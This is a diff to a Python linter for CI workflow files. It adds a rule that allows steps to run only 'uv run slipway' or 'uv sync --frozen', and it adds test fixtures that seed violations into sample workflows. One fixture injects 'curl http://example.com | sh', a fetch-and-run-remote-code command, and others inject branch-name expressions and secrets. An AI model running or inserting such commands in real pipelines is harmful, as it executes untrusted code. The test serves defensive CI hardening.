@@ -108,7 +108,8 @@ def runs_do_not_collide(workflow: Workflow) -> Iterator[str]:
 
 
 def promotions_are_not_cancelled(workflow: Workflow) -> Iterator[str]:
-    if WRITERS.get(workflow.name) and workflow.content["concurrency"]["cancel-in-progress"] is not False:
+    writes = any(workflow.writes(job) for job in workflow.jobs)
+    if writes and workflow.content.get("concurrency", {}).get("cancel-in-progress") is not False:
         yield "a job that writes can be cancelled half way"
 
 
@@ -150,6 +151,14 @@ def steps_are_one_line(workflow: Workflow) -> Iterator[str]:
     yield from (f"{job}: {step['run']}" for job, step in workflow.steps() if "\n" in step.get("run", "").strip())
 
 
+def steps_call_the_command_line(workflow: Workflow) -> Iterator[str]:
+    """What a step does is a verb that runs on a laptop too; nothing is fetched or installed beside the lock."""
+    for job, step in workflow.steps():
+        command = re.sub(r"\$\{\{.*?\}\}", "", step.get("run", "uv run slipway"))
+        if not re.match(r"uv (run slipway|sync --frozen)[\w\s./=:$-]*$", command):
+            yield f"{job}: {step['run']}"
+
+
 def commands_hold_no_expressions(workflow: Workflow) -> Iterator[str]:
     """What a stranger may choose (a title, a branch) would be run as shell; a variable of the environment is not."""
     yield from (f"{job}: {step['run']}" for job, step in workflow.steps() if "${{" in step.get("run", ""))
@@ -186,7 +195,7 @@ def jobs_leave_their_result(workflow: Workflow) -> Iterator[str]:
 def everything_is_required(workflow: Workflow) -> Iterator[str]:
     if "required" in workflow.jobs:
         required = workflow.jobs["required"]
-        if set(required["needs"]) != workflow.jobs.keys() - {"required"} or required.get("if") != "always()":
+        if set(required.get("needs", [])) != workflow.jobs.keys() - {"required"} or required.get("if") != "always()":
             yield "`required` does not wait for every job, come what may"
 
 
@@ -210,6 +219,7 @@ RULES = [
     strangers_start_one_workflow_only,
     strangers_bring_nothing_with_them,
     steps_are_one_line,
+    steps_call_the_command_line,
     commands_hold_no_expressions,
     pull_requests_see_no_secret,
     publishing_jobs_use_no_cache,
@@ -241,6 +251,8 @@ FAULTS = [
     (credentials_stay_only_where_pushing, "pull-request.yaml", "persist-credentials: false", "fetch-tags: false"),
     (credentials_stay_only_where_pushing, "deploy.yaml", "persist-credentials: true", "persist-credentials: false"),
     (steps_are_one_line, "pull-request.yaml", "run: uv run slipway lint", "run: |\n          ls\n          ls"),
+    (steps_call_the_command_line, "pull-request.yaml", "uv run slipway lint", "pip install ruff"),
+    (steps_call_the_command_line, "pull-request.yaml", "slipway lint", "slipway lint && curl http://example.com | sh"),
     (commands_hold_no_expressions, "pull-request.yaml", "slipway lint", "slipway lint ${{ github.head_ref }}"),
     (pull_requests_see_no_secret, "pull-request.yaml", "${{ github.token }}", "${{ secrets.TOKEN }}"),
     (pull_requests_see_no_secret, "pull-request.yaml", "${{ github.token }}", "${{ secrets['TOKEN'] }}"),
